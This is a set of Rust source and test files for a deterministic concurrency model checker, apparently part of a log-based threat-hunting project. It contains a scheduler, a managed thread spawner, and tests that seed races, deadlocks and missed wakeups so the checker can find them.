use std::panic;
use std::sync::{Arc, Condvar, Mutex, MutexGuard, PoisonError};

/// Panic payload used to tear an iteration down: every parked thread is
/// woken with this payload once a violation aborts the run. Thread
/// wrappers recognise it and exit quietly instead of reporting it as a
/// second violation.
pub(crate) struct AbortIteration;

/// Where a parked thread stands with the scheduler.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Status {
    /// Parked, eligible to be granted the baton.
    Ready,
    /// Holds the baton right now.
    Running,
    /// Parked until the lock at this address is released.
    BlockedLock(usize),
    /// Parked in a condvar wait; `timed` waiters can be woken by the
    /// controller at quiescence (modelling a timeout firing).
    Waiting { cv: usize, timed: bool },
    /// Parked until the target thread finishes.
    BlockedJoin(usize),
    /// The thread function returned (or unwound).
    Done,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Turn {
    Controller,
    Thread(usize),
}

#[derive(Debug)]
struct Slot {
    status: Status,
    /// For `Waiting` threads: whether the wake that made them `Ready`
    /// was a quiescence (timeout) wake rather than a notify.
    timed_out: bool,
}

#[derive(Debug)]
pub(crate) struct State {
    turn: Turn,
    slots: Vec<Slot>,
    abort: bool,
    violation: Option<String>,
    steps: u64,
    quiescent_wakes: u64,
    last_running: Option<usize>,
}

/// One exploration iteration's shared scheduler state. Every model
/// thread holds an `Arc<Run>`; the controller owns the decision log.
pub(crate) struct Run {
    state: Mutex<State>,
    cond: Condvar,
}

thread_local! {
    static CURRENT: RefCell<Option<(Arc<Run>, usize)>> = const { RefCell::new(None) };
}

/// The run this thread is managed by, if any. `None` means the thread
/// is outside any model (instrumented primitives pass through to std).
pub(crate) fn current() -> Option<(Arc<Run>, usize)> {
    CURRENT.with(|c| c.borrow().clone())
}

pub(crate) fn set_current(v: Option<(Arc<Run>, usize)>) {
    CURRENT.with(|c| *c.borrow_mut() = v);
}

fn lock_state(run: &Run) -> MutexGuard<'_, State> {
    run.state.lock().unwrap_or_else(PoisonError::into_inner)
}

impl Run {
    #[cfg_attr(not(threatraptor_check), allow(dead_code))]
    pub(crate) fn new() -> Run {
        Run {
            state: Mutex::new(State {
                turn: Turn::Controller,
                slots: Vec::new(),
                abort: false,
                violation: None,
                steps: 0,
                quiescent_wakes: 0,
                last_running: None,
            }),
            cond: Condvar::new(),
        }
    }

    /// Registers a new model thread; it starts `Ready` but parked (its
    /// wrapper must call [`Run::wait_for_grant`] before touching the
    /// model).
    pub(crate) fn register(&self) -> usize {
        let mut st = lock_state(self);
        st.slots.push(Slot {
            status: Status::Ready,
            timed_out: false,
        });
        st.slots.len() - 1
    }

    /// Parks until the controller grants this thread the baton.
    pub(crate) fn wait_for_grant(&self, me: usize) {
        let st = lock_state(self);
        self.grant_loop(st, me);
    }

    fn grant_loop(&self, mut st: MutexGuard<'_, State>, me: usize) -> bool {
        loop {
            if st.abort {
                drop(st);
                panic::panic_any(AbortIteration);
            }
            if st.turn == Turn::Thread(me) {
                let timed_out = st.slots[me].timed_out;
                st.slots[me].timed_out = false;
                st.slots[me].status = Status::Running;
                return timed_out;
            }
            st = self.cond.wait(st).unwrap_or_else(PoisonError::into_inner);
        }
    }

    /// Hands the baton to the controller with `status` and parks until
    /// granted again. Returns whether the wake was a quiescence
    /// (timeout) wake — meaningful only for `Waiting` parks.
    pub(crate) fn park(&self, me: usize, status: Status) -> bool {
        let mut st = lock_state(self);
        st.slots[me].status = status;
        st.turn = Turn::Controller;
        self.cond.notify_all();
        self.grant_loop(st, me)
    }

    /// A plain scheduling point: any other runnable thread may be
    /// granted here.
    pub(crate) fn sched_point(&self, me: usize) {
        self.park(me, Status::Ready);
    }

    /// Marks every thread blocked on `addr` ready again. Called by the
    /// releasing thread while it still holds the baton, so the woken
    /// threads cannot run before the release completes.
    pub(crate) fn release_lock(&self, addr: usize) {
        let mut st = lock_state(self);
        for slot in &mut st.slots {
            if slot.status == Status::BlockedLock(addr) {
                slot.status = Status::Ready;
            }
        }
    }

    /// Wakes waiters of the condvar at `addr` (lowest thread id first
    /// for `notify_one`; the pick is deterministic by construction).
    pub(crate) fn notify_cv(&self, addr: usize, all: bool) {
        let mut st = lock_state(self);
        for slot in &mut st.slots {
            if let Status::Waiting { cv, .. } = slot.status {
                if cv == addr {
                    slot.status = Status::Ready;
                    slot.timed_out = false;
                    if !all {
                        break;
                    }
                }
            }
        }
    }

    /// Parks as a join on `target`, or as a plain scheduling point when
    /// the target already finished. The check and the park share one
    /// state lock, so the target cannot slip to `Done` in between.
    pub(crate) fn join_wait(&self, me: usize, target: usize) {
        let mut st = lock_state(self);
        let status = if st.slots[target].status == Status::Done {
            Status::Ready
        } else {
            Status::BlockedJoin(target)
        };
        st.slots[me].status = status;
        st.turn = Turn::Controller;
        self.cond.notify_all();
        self.grant_loop(st, me);
    }

    /// Marks this thread done, wakes its joiners, and records a
    /// violation when the thread unwound with a real (non-teardown)
    /// panic.
    pub(crate) fn finish(&self, me: usize, panic_msg: Option<String>) {
        let mut st = lock_state(self);
        st.slots[me].status = Status::Done;
        for slot in &mut st.slots {
            if slot.status == Status::BlockedJoin(me) {
                slot.status = Status::Ready;
            }
        }
        if let Some(msg) = panic_msg {
            if st.violation.is_none() {
                st.violation = Some(msg);
            }
            st.abort = true;
        }
        st.turn = Turn::Controller;
        self.cond.notify_all();
    }

    /// Quiescence (timeout) wakes taken so far this iteration. A model
    /// whose wakeup protocol is correct never needs one: asserting zero
    /// here turns a missed-wakeup liveness bug (otherwise masked by the
    /// timeout backstop) into a hard failure.
    pub(crate) fn quiescent_wakes(&self) -> u64 {
        lock_state(self).quiescent_wakes
    }
}

/// One branching choice the controller made: which candidates were
/// runnable and which was granted. Non-branching grants (a single
/// candidate) are not recorded — replay re-derives them.
#[derive(Debug, Clone)]
#[cfg_attr(not(threatraptor_check), allow(dead_code))]
pub(crate) struct Decision {
    /// Candidate thread ids; `candidates[0]` is the preferred choice
    /// (the previously running thread when it is still runnable).
    candidates: Vec<usize>,
    /// Index into `candidates` actually granted.
    chosen: usize,
    /// Whether `candidates[0]` is the running-thread continuation, so
    /// granting any other candidate costs a preemption.
    continuation: bool,
    /// Preemptions already spent on the path before this decision.
    preemptions_before: usize,
}

#[cfg_attr(not(threatraptor_check), allow(dead_code))]
pub(crate) struct IterationOutcome {
    pub(crate) decisions: Vec<Decision>,
    pub(crate) violation: Option<String>,
    pub(crate) schedule_taken: Vec<usize>,
    pub(crate) diverged: bool,
}

/// Runs the controller loop for one iteration: grants threads per the
/// replay `schedule` (then by preference), records branching decisions,
/// and returns once every model thread is `Done`.
#[cfg_attr(not(threatraptor_check), allow(dead_code))]
pub(crate) fn controller_loop(
    run: &Arc<Run>,
    schedule: &[usize],
    max_steps: u64,
) -> IterationOutcome {
    let mut decisions: Vec<Decision> = Vec::new();
    let mut preemptions = 0usize;
    let mut replay_at = 0usize;
    let mut diverged = false;
    let mut st = lock_state(run);
    loop {
        while st.turn != Turn::Controller {
            st = run.cond.wait(st).unwrap_or_else(PoisonError::into_inner);
        }
        if st.slots.iter().all(|s| s.status == Status::Done) {
            break;
        }
        if st.abort {
            // A violation is tearing the iteration down: keep waking
            // parked threads until they have all unwound to Done.
            run.cond.notify_all();
            st = run.cond.wait(st).unwrap_or_else(PoisonError::into_inner);
            continue;
        }
        st.steps += 1;
        if st.steps > max_steps {
            st.violation = Some(format!(
                "step cap exceeded ({max_steps} scheduling points): livelock or unbounded loop"
            ));
            st.abort = true;
            run.cond.notify_all();
            continue;
        }

        let ready: Vec<usize> = st
            .slots
            .iter()
            .enumerate()
            .filter(|(_, s)| s.status == Status::Ready)
            .map(|(i, _)| i)
            .collect();

        let candidates: Vec<usize>;
        let continuation: bool;
        if ready.is_empty() {
            let timed: Vec<usize> = st
                .slots
                .iter()
                .enumerate()
                .filter(|(_, s)| matches!(s.status, Status::Waiting { timed: true, .. }))
                .map(|(i, _)| i)
                .collect();
            if timed.is_empty() {
                let held: Vec<String> = st
                    .slots
                    .iter()
                    .enumerate()
                    .filter(|(_, s)| s.status != Status::Done)
                    .map(|(i, s)| format!("thread {i}: {:?}", s.status))
                    .collect();
                st.violation = Some(format!(
                    "deadlock: no runnable thread [{}]",
                    held.join(", ")
                ));
                st.abort = true;
                run.cond.notify_all();
                continue;
            }
            // Quiescence: only timeouts can make progress. Waking one
            // timed waiter is itself a (branching) decision.
            candidates = timed;
            continuation = false;
        } else {
            let mut c = ready;
            c.sort_unstable();
            let cont = st.last_running.filter(|lr| c.contains(lr));
            if let Some(lr) = cont {
                c.retain(|&t| t != lr);
                c.insert(0, lr);
            }
            continuation = cont.is_some();
            candidates = c;
        }

        let mut chosen = 0usize;
        if candidates.len() > 1 {
            if replay_at < schedule.len() {
                match candidates.iter().position(|&t| t == schedule[replay_at]) {
                    Some(idx) => chosen = idx,
                    None => {
                        // The replayed prefix no longer matches (the
                        // model is not perfectly deterministic): stop
                        // replaying and continue with defaults.
                        diverged = true;
                        replay_at = schedule.len();
                    }
                }
                replay_at += 1;
            }
            decisions.push(Decision {
                candidates: candidates.clone(),
                chosen,
                continuation,
                preemptions_before: preemptions,
            });
            if continuation && chosen != 0 {
                preemptions += 1;
            }
        }

        let tid = candidates[chosen];
        let slot = &mut st.slots[tid];
        if let Status::Waiting { .. } = slot.status {
            slot.status = Status::Ready;
            slot.timed_out = true;
            st.quiescent_wakes += 1;
            // The woken waiter becomes the sole Ready thread and is
            // granted on the next pass round the loop.
            continue;
        }
        st.turn = Turn::Thread(tid);
        st.last_running = Some(tid);
        run.cond.notify_all();
    }
    let violation = st.violation.clone();
    drop(st);
    IterationOutcome {
        schedule_taken: decisions.iter().map(|d| d.candidates[d.chosen]).collect(),
        decisions,
        violation,
        diverged,
    }
}

/// The next schedule to explore: backtracks to the deepest decision
/// with an untried alternative whose cost stays within the preemption
/// bound. `None` when the bounded space is exhausted.
#[cfg_attr(not(threatraptor_check), allow(dead_code))]
pub(crate) fn next_schedule(decisions: &[Decision], bound: usize) -> Option<Vec<usize>> {
    for j in (0..decisions.len()).rev() {
        let d = &decisions[j];
        for k in d.chosen + 1..d.candidates.len() {
            let cost = d.preemptions_before + usize::from(d.continuation && k != 0);
            if cost <= bound {
                let mut s: Vec<usize> = decisions[..j]
                    .iter()
                    .map(|p| p.candidates[p.chosen])
                    .collect();
                s.push(d.candidates[k]);
                return Some(s);
            }
        }
    }
    None
}

pub(crate) fn panic_message(p: &(dyn std::any::Any + Send)) -> String {
    if let Some(s) = p.downcast_ref::<&'static str>() {
        (*s).to_string()
    } else if let Some(s) = p.downcast_ref::<String>() {
        s.clone()
    } else {
        "panic with non-string payload".to_string()
    }
}
