//! Thread spawning under the scheduler. A thread spawned from inside a
//! model becomes a *managed* thread: a real OS thread that registers
//! with the run, parks until granted, and reports back when it
//! finishes (or unwinds). Spawns from unmanaged threads pass straight
//! through to `std::thread`.

use std::io;
use std::panic::{self, AssertUnwindSafe};
use std::time::Duration;

use crate::sched::{current, panic_message, set_current, AbortIteration};

pub struct Builder {
    inner: std::thread::Builder,
}

impl Builder {
    #[allow(clippy::new_without_default)]
    pub fn new() -> Builder {
        Builder {
            inner: std::thread::Builder::new(),
        }
    }

    pub fn name(self, name: String) -> Builder {
        Builder {
            inner: self.inner.name(name),
        }
    }

    pub fn stack_size(self, size: usize) -> Builder {
        Builder {
            inner: self.inner.stack_size(size),
        }
    }

    pub fn spawn<F, T>(self, f: F) -> io::Result<JoinHandle<T>>
    where
        F: FnOnce() -> T + Send + 'static,
        T: Send + 'static,
    {
        match current() {
            None => self.inner.spawn(f).map(|h| JoinHandle {
                inner: h,
                managed: None,
            }),
            Some((run, _)) => {
                let tid = run.register();
                let child_run = run.clone();
                let h = self.inner.spawn(move || -> T {
                    set_current(Some((child_run.clone(), tid)));
                    // The grant wait lives inside the catch: an abort
                    // arriving before the first grant must still reach
                    // finish(), or the controller waits forever.
                    match panic::catch_unwind(AssertUnwindSafe(|| {
                        child_run.wait_for_grant(tid);
                        f()
                    })) {
                        Ok(v) => {
                            child_run.finish(tid, None);
                            v
                        }
                        Err(p) => {
                            let msg = if p.is::<AbortIteration>() {
                                None
                            } else {
                                Some(panic_message(p.as_ref()))
                            };
                            child_run.finish(tid, msg);
                            panic::resume_unwind(p);
                        }
                    }
                })?;
                Ok(JoinHandle {
                    inner: h,
                    managed: Some(tid),
                })
            }
        }
    }
}

pub struct JoinHandle<T> {
    inner: std::thread::JoinHandle<T>,
    /// The scheduler thread id, when the thread was spawned inside a
    /// model run.
    managed: Option<usize>,
}

impl<T> JoinHandle<T> {
    #[allow(clippy::missing_errors_doc)]
    pub fn join(self) -> std::thread::Result<T> {
        if let (Some(target), Some((run, me))) = (self.managed, current()) {
            run.join_wait(me, target);
        }
        self.inner.join()
    }

    pub fn is_finished(&self) -> bool {
        self.inner.is_finished()
    }

    pub fn thread(&self) -> &std::thread::Thread {
        self.inner.thread()
    }
}

impl<T> std::fmt::Debug for JoinHandle<T> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.pad("JoinHandle { .. }")
    }
}

pub fn spawn<F, T>(f: F) -> JoinHandle<T>
where
    F: FnOnce() -> T + Send + 'static,
    T: Send + 'static,
{
    Builder::new().spawn(f).expect("failed to spawn thread")
}

/// Inside a model, time is abstract: sleeping is just a scheduling
/// point (the sleeper stays runnable — a sleep is never load-bearing
/// for correctness, which is exactly what the checker verifies).
pub fn sleep(dur: Duration) {
    match current() {
        None => std::thread::sleep(dur),
        Some((run, me)) => run.sched_point(me),
    }
}

pub fn yield_now() {
    match current() {
        None => std::thread::yield_now(),
        Some((run, me)) => run.sched_point(me),
    }
}
