//! Mutant detection: the checker must *re-find* seeded bugs.
//!
//! Built only with BOTH cfgs —
//! `RUSTFLAGS="--cfg threatraptor_check --cfg check_mutants"` — this
//! suite reruns the dispatcher fan-out model against the seeded
//! first-constituent-event-id `MatchKey` (the PR 3 exactly-once
//! regression, re-introduced in `follow.rs` under `cfg(check_mutants)`)
//! and asserts exploration finds the duplicate-delivery schedule. A
//! checker that passes on buggy code is worse than no checker; this is
//! the suite that keeps it honest. (The lock-order mutant in `pool.rs`
//! is covered by `threatraptor-lint --include-mutants`, not here — it
//! is a static property.)
#![cfg(all(threatraptor_check, check_mutants))]

use std::time::Duration;

use threatraptor_audit::entity::Entity;
use threatraptor_audit::event::{Event, EventId, Operation};
use threatraptor_audit::parser::LogChunk;
use threatraptor_audit::sim::scenario::ScenarioBuilder;
use threatraptor_check::{model, CheckConfig};
use threatraptor_engine::ExecMode;
use threatraptor_service::{FollowHunt, IngestConfig, IngestService, PlanCache};
use threatraptor_storage::SealPolicy;
use threatraptor_sync::{thread, Arc};

/// Same protocol as `models::model_dispatcher_exactly_once_fanout`: a
/// dispatcher re-polls a standing query on every epoch change while an
/// appender delivers a same-start tie that re-leads the merged run. The
/// event-id-keyed mutant delivers the match twice exactly when a poll
/// lands between the two chunks — an interleaving the explorer is
/// guaranteed to reach.
#[test]
fn dispatcher_model_finds_the_event_id_match_key_bug() {
    let entities = ScenarioBuilder::new()
        .seed(1)
        .target_events(50)
        .build()
        .log
        .entities;
    let proc_id = entities
        .iter()
        .find_map(|e| matches!(e, Entity::Process(_)).then(|| e.id()))
        .expect("scenario has a process");
    let file_id = entities
        .iter()
        .find_map(|e| matches!(e, Entity::File(_)).then(|| e.id()))
        .expect("scenario has a file");
    let read = |id: u32, start: u64, end: u64| Event {
        id: EventId(id),
        subject: proc_id,
        op: Operation::Read,
        object: file_id,
        start,
        end,
        bytes: 8,
        merged: 1,
        tag: None,
    };
    let base = LogChunk {
        new_entities: entities,
        events: Vec::new(),
    };
    let first = LogChunk {
        new_entities: Vec::new(),
        events: vec![read(50, 100, 110)],
    };
    let tie = LogChunk {
        new_entities: Vec::new(),
        events: vec![read(60, 100, 105)],
    };
    let plan = PlanCache::new()
        .plan("proc p read file f return p, f")
        .expect("pair query compiles")
        .0;

    let report = model(
        CheckConfig {
            name: "dispatcher-fanout-mutant",
            preemption_bound: 2,
            max_iterations: 4_000,
            max_steps: 100_000,
        },
        move || {
            let svc = Arc::new(IngestService::new(IngestConfig::with_policy(
                SealPolicy::manual(),
            )));
            svc.append(&base);
            let e0 = svc.epoch();
            let target = e0 + 2;

            let (tx, rx) = crossbeam::channel::bounded::<usize>(8);
            let svc2 = Arc::clone(&svc);
            let plan2 = Arc::clone(&plan);
            let dispatcher = thread::spawn(move || {
                let mut hunt = FollowHunt::new(plan2, ExecMode::Scheduled, 1);
                let mut last = e0;
                loop {
                    let delta = svc2.poll(&mut hunt).expect("poll succeeds");
                    tx.send(delta.new_matches).expect("subscriber is alive");
                    if last >= target {
                        return;
                    }
                    last = svc2.wait_epoch_newer(last, Duration::from_secs(30));
                }
            });

            let svc3 = Arc::clone(&svc);
            let (first, tie) = (first.clone(), tie.clone());
            let appender = thread::spawn(move || {
                svc3.append(&first);
                svc3.append(&tie);
            });

            let delivered: usize = rx.iter().sum();
            dispatcher.join().unwrap();
            appender.join().unwrap();
            assert_eq!(
                delivered, 1,
                "fan-out must deliver the re-led run exactly once"
            );
        },
    );

    let violation = report
        .violation
        .as_ref()
        .expect("the explorer must find the duplicate-delivery schedule under the mutant");
    println!(
        "mutant found on iteration {} (schedule {:?}): {}",
        violation.iteration, violation.schedule, violation.message
    );
    assert!(
        violation.message.contains("exactly once"),
        "wrong violation: {}",
        violation.message
    );
}
