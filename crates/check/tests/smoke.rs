//! Self-tests for the checker runtime itself: tiny hand-built models
//! with known-correct and known-broken variants. The broken variants
//! prove the explorer actually reaches the failing schedules; the
//! correct ones prove it terminates and (in instrumented builds)
//! exhausts their bounded spaces.
//!
//! Build normally these run each model once as a plain concurrency
//! smoke test; build with `RUSTFLAGS="--cfg threatraptor_check"` they
//! explore schedules exhaustively.

use threatraptor_check::{model, CheckConfig};
use threatraptor_sync::atomic::{AtomicUsize, Ordering};
use threatraptor_sync::{thread, Arc, Condvar, Mutex, PoisonError};

fn cfg(name: &'static str) -> CheckConfig {
    CheckConfig {
        name,
        ..CheckConfig::default()
    }
}

/// Two threads bumping a counter with a proper atomic RMW: correct on
/// every schedule.
#[test]
fn atomic_increment_is_race_free() {
    let report = model(cfg("atomic-increment"), || {
        let n = Arc::new(AtomicUsize::new(0));
        let handles: Vec<_> = (0..2)
            .map(|_| {
                let n = Arc::clone(&n);
                thread::spawn(move || {
                    // ordering: test-local counter, no ordering contract.
                    n.fetch_add(1, Ordering::Relaxed);
                })
            })
            .collect();
        for h in handles {
            h.join().unwrap();
        }
        assert_eq!(n.load(Ordering::Relaxed), 2);
    });
    report.assert_ok(2);
}

/// The same counter "incremented" with a load/store pair: the classic
/// lost update. The explorer must find the schedule where both threads
/// load 0.
#[cfg(threatraptor_check)]
#[test]
fn load_store_race_is_found() {
    let report = model(cfg("load-store-race"), || {
        let n = Arc::new(AtomicUsize::new(0));
        let handles: Vec<_> = (0..2)
            .map(|_| {
                let n = Arc::clone(&n);
                thread::spawn(move || {
                    // ordering: deliberately racy read-modify-write.
                    let v = n.load(Ordering::SeqCst);
                    n.store(v + 1, Ordering::SeqCst);
                })
            })
            .collect();
        for h in handles {
            h.join().unwrap();
        }
        assert_eq!(n.load(Ordering::SeqCst), 2, "lost update");
    });
    assert!(
        report.violation.is_some(),
        "the lost-update schedule must be explored (got {} clean interleavings)",
        report.iterations
    );
}

/// Mutex-protected increments never lose updates.
#[test]
fn mutex_increment_is_race_free() {
    let report = model(cfg("mutex-increment"), || {
        let n = Arc::new(Mutex::new(0usize));
        let handles: Vec<_> = (0..2)
            .map(|_| {
                let n = Arc::clone(&n);
                thread::spawn(move || {
                    *n.lock().unwrap_or_else(PoisonError::into_inner) += 1;
                })
            })
            .collect();
        for h in handles {
            h.join().unwrap();
        }
        assert_eq!(*n.lock().unwrap_or_else(PoisonError::into_inner), 2);
    });
    report.assert_ok(2);
}

/// AB-BA lock ordering: the explorer must find the deadlock.
#[cfg(threatraptor_check)]
#[test]
fn ab_ba_deadlock_is_found() {
    let report = model(cfg("ab-ba-deadlock"), || {
        let a = Arc::new(Mutex::new(()));
        let b = Arc::new(Mutex::new(()));
        let (a2, b2) = (Arc::clone(&a), Arc::clone(&b));
        let t = thread::spawn(move || {
            let _ga = a2.lock().unwrap_or_else(PoisonError::into_inner);
            let _gb = b2.lock().unwrap_or_else(PoisonError::into_inner);
        });
        {
            let _gb = b.lock().unwrap_or_else(PoisonError::into_inner);
            let _ga = a.lock().unwrap_or_else(PoisonError::into_inner);
        }
        let _ = t.join();
    });
    let v = report
        .violation
        .expect("AB-BA must deadlock on some schedule");
    assert!(
        v.message.contains("deadlock"),
        "unexpected violation: {}",
        v.message
    );
}

/// Condvar handoff with the notify under the lock: no schedule loses
/// the wakeup, so the timed wait never needs its timeout backstop.
#[test]
fn condvar_handoff_never_misses_a_wakeup() {
    let report = model(cfg("condvar-handoff"), || {
        let state = Arc::new((Mutex::new(false), Condvar::new()));
        let state2 = Arc::clone(&state);
        let t = thread::spawn(move || {
            let (lock, cond) = &*state2;
            let mut done = lock.lock().unwrap_or_else(PoisonError::into_inner);
            *done = true;
            cond.notify_all();
            drop(done);
        });
        let (lock, cond) = &*state;
        let mut done = lock.lock().unwrap_or_else(PoisonError::into_inner);
        while !*done {
            let (g, _) = cond
                .wait_timeout(done, std::time::Duration::from_secs(30))
                .unwrap_or_else(PoisonError::into_inner);
            done = g;
        }
        drop(done);
        t.join().unwrap();
        assert_eq!(
            threatraptor_check::quiescent_wakes(),
            0,
            "a notify-under-lock handoff must never fall back to the timeout"
        );
    });
    report.assert_ok(3);
}

/// The check-then-wait bug (notify *not* under the lock is fine; the
/// waiter checking the flag before waiting *without* the lock is not):
/// here the waiter re-checks under the lock, but the setter flips the
/// flag outside any lock and notifies without it — the waiter can park
/// after the notify and only the timeout saves it. The quiescent-wake
/// stat must expose that.
#[cfg(threatraptor_check)]
#[test]
fn lost_wakeup_shows_up_as_quiescent_wakes() {
    let report = model(cfg("lost-wakeup"), || {
        let flag = Arc::new(AtomicUsize::new(0));
        let state = Arc::new((Mutex::new(()), Condvar::new()));
        let (flag2, state2) = (Arc::clone(&flag), Arc::clone(&state));
        let t = thread::spawn(move || {
            // ordering: test-local flag, no ordering contract.
            flag2.store(1, Ordering::SeqCst);
            // BUG under test: notify without holding the lock that the
            // waiter's check-then-wait relies on.
            state2.1.notify_all();
        });
        let (lock, cond) = &*state;
        while flag.load(Ordering::SeqCst) == 0 {
            let g = lock.lock().unwrap_or_else(PoisonError::into_inner);
            let (g, _) = cond
                .wait_timeout(g, std::time::Duration::from_secs(1))
                .unwrap_or_else(PoisonError::into_inner);
            drop(g);
        }
        t.join().unwrap();
        if threatraptor_check::quiescent_wakes() > 0 {
            panic!("missed wakeup: waiter needed the timeout backstop");
        }
    });
    assert!(
        report.violation.is_some(),
        "some schedule must park the waiter after the notify"
    );
}
