//! Checked models of the four riskiest concurrency protocols in the
//! tree, exercised through the *real* production code (the sync facade
//! routes every lock, condvar, atomic write, and spawn through the
//! checker's scheduler when built with
//! `RUSTFLAGS="--cfg threatraptor_check"`):
//!
//! 1. `WorkerPool` submit/drain/shutdown — no accepted task is lost or
//!    run twice across any submit-vs-shutdown interleaving.
//! 2. `IngestService` epoch gate — `wait_epoch_newer` never misses a
//!    wakeup (the notify-under-lock protocol needs no timeout
//!    backstop), and `poke` wakes waiters without an epoch change.
//! 3. Dispatcher fan-out — a standing query polled concurrently with
//!    ingest delivers every match exactly once, including across the
//!    PR 3 re-led-run schedule (a same-start tie arriving between two
//!    polls re-leads the merged run under a new event id).
//! 4. `PlanCache` LRU — concurrent get-or-compile at capacity keeps
//!    the cache coherent (right plan returned, capacity respected).
//!
//! Built without the cfg these run once on real threads — plain
//! concurrency smoke tests in tier-1.

use std::time::Duration;

use threatraptor_audit::entity::Entity;
use threatraptor_audit::event::{Event, EventId, Operation};
use threatraptor_audit::parser::LogChunk;
use threatraptor_audit::sim::scenario::ScenarioBuilder;
use threatraptor_check::{model, CheckConfig, Report};
use threatraptor_engine::ExecMode;
use threatraptor_service::{
    FollowHunt, IngestConfig, IngestService, PlanCache, SubmitError, WorkerPool,
};
use threatraptor_storage::SealPolicy;
use threatraptor_sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use threatraptor_sync::{thread, Arc};

fn cfg(name: &'static str, max_iterations: u64) -> CheckConfig {
    CheckConfig {
        name,
        preemption_bound: 2,
        max_iterations,
        max_steps: 100_000,
    }
}

fn finish(report: &Report, min_interleavings: u64) {
    println!(
        "model '{}': {} interleavings explored (exhausted: {}, divergences: {})",
        report.name, report.iterations, report.exhausted, report.divergences
    );
    report.assert_ok(min_interleavings);
}

/// The PR 3 re-leadable-run scenario: one entity chunk, then two event
/// chunks whose reads share a start time — the second sorts ahead of
/// the first and re-leads the merged CPR run under a new event id.
struct TieScenario {
    base: LogChunk,
    first: LogChunk,
    tie: LogChunk,
}

fn tie_scenario() -> TieScenario {
    let entities = ScenarioBuilder::new()
        .seed(1)
        .target_events(50)
        .build()
        .log
        .entities;
    let proc_id = entities
        .iter()
        .find_map(|e| matches!(e, Entity::Process(_)).then(|| e.id()))
        .expect("scenario has a process");
    let file_id = entities
        .iter()
        .find_map(|e| matches!(e, Entity::File(_)).then(|| e.id()))
        .expect("scenario has a file");
    let read = |id: u32, start: u64, end: u64| Event {
        id: EventId(id),
        subject: proc_id,
        op: Operation::Read,
        object: file_id,
        start,
        end,
        bytes: 8,
        merged: 1,
        tag: None,
    };
    TieScenario {
        base: LogChunk {
            new_entities: entities,
            events: Vec::new(),
        },
        first: LogChunk {
            new_entities: Vec::new(),
            events: vec![read(50, 100, 110)],
        },
        // Equal start, smaller (end, id) sort key: re-leads the run.
        tie: LogChunk {
            new_entities: Vec::new(),
            events: vec![read(60, 100, 105)],
        },
    }
}

fn manual_ingest() -> IngestService {
    IngestService::new(IngestConfig::with_policy(SealPolicy::manual()))
}

/// Model 1: WorkerPool submit/drain/shutdown. A second producer races
/// `submit` against `shutdown`; whatever the schedule, every *accepted*
/// task must run exactly once before `shutdown` returns, and
/// submissions after shutdown must be refused.
#[test]
fn model_pool_submit_drain_shutdown() {
    let report = model(cfg("worker-pool", 5_000), || {
        let pool = Arc::new(WorkerPool::new(2, 2));
        let ran = Arc::new(AtomicUsize::new(0));
        let accepted = Arc::new(AtomicUsize::new(0));

        let (pool2, ran2, accepted2) = (Arc::clone(&pool), Arc::clone(&ran), Arc::clone(&accepted));
        let racer = thread::spawn(move || {
            let task_ran = Arc::clone(&ran2);
            // ordering: test-local counters, no ordering contract.
            match pool2.submit(Box::new(move || {
                task_ran.fetch_add(1, Ordering::Relaxed);
            })) {
                Ok(()) => {
                    accepted2.fetch_add(1, Ordering::Relaxed);
                }
                Err(SubmitError::Shutdown) => {}
                Err(e) => panic!("unexpected submit error: {e:?}"),
            }
        });

        let task_ran = Arc::clone(&ran);
        pool.submit(Box::new(move || {
            task_ran.fetch_add(1, Ordering::Relaxed);
        }))
        .expect("submit before shutdown is accepted");
        accepted.fetch_add(1, Ordering::Relaxed);

        pool.shutdown();
        racer.join().unwrap();

        assert_eq!(
            pool.submit(Box::new(|| {})),
            Err(SubmitError::Shutdown),
            "post-shutdown submissions must be refused"
        );
        assert_eq!(
            ran.load(Ordering::Relaxed),
            accepted.load(Ordering::Relaxed),
            "every accepted task runs exactly once before shutdown returns"
        );
    });
    finish(&report, 2_500);
}

/// Model 2a: the ingest epoch gate. Two waiters park on
/// `wait_epoch_newer` while an appender bumps the epoch. The
/// notify-under-lock protocol means no schedule can lose the wakeup —
/// the timed wait must never fall back to its timeout (quiescence
/// wake), and both waiters must observe the advanced epoch.
#[test]
fn model_ingest_epoch_wakeup() {
    let sc = tie_scenario();
    let (base, chunk) = (sc.base, sc.first);
    let report = model(cfg("ingest-epoch", 4_000), move || {
        let svc = Arc::new(manual_ingest());
        svc.append(&base);
        let e0 = svc.epoch();
        let woke = Arc::new(AtomicU64::new(0));

        let waiters: Vec<_> = (0..2)
            .map(|i| {
                let (svc, woke) = (Arc::clone(&svc), Arc::clone(&woke));
                thread::spawn(move || {
                    let got = svc.wait_epoch_newer(e0, Duration::from_secs(30));
                    assert!(
                        got > e0,
                        "waiter {i} returned without an epoch change (got {got}, had {e0})"
                    );
                    // ordering: test-local accumulator, no contract.
                    woke.fetch_add(1, Ordering::Relaxed);
                })
            })
            .collect();

        let svc2 = Arc::clone(&svc);
        let chunk = chunk.clone();
        let appender = thread::spawn(move || {
            svc2.append(&chunk);
        });

        for w in waiters {
            w.join().unwrap();
        }
        appender.join().unwrap();
        assert_eq!(woke.load(Ordering::Relaxed), 2);
        assert_eq!(
            threatraptor_check::quiescent_wakes(),
            0,
            "the epoch gate must never need the timeout backstop"
        );
    });
    finish(&report, 2_500);
}

/// Model 2b: `poke` semantics. A poke wakes a waiter without an epoch
/// change — unless the poke lands before the waiter parks, in which
/// case the timeout backstop (modelled as a quiescence wake) is what
/// returns control. Either way the waiter comes back with the epoch
/// unchanged and nothing deadlocks.
#[test]
fn model_ingest_poke_returns_unchanged_epoch() {
    let sc = tie_scenario();
    let base = sc.base;
    let report = model(cfg("ingest-poke", 2_000), move || {
        let svc = Arc::new(manual_ingest());
        svc.append(&base);
        let e0 = svc.epoch();

        let svc2 = Arc::clone(&svc);
        let waiter = thread::spawn(move || {
            let got = svc2.wait_epoch_newer(e0, Duration::from_secs(1));
            assert_eq!(got, e0, "no append happened: the epoch must be unchanged");
        });
        let svc3 = Arc::clone(&svc);
        let poker = thread::spawn(move || {
            svc3.poke();
        });

        waiter.join().unwrap();
        poker.join().unwrap();
        assert!(
            threatraptor_check::quiescent_wakes() <= 1,
            "at most the one missed-poke timeout"
        );
    });
    finish(&report, 1_000);
}

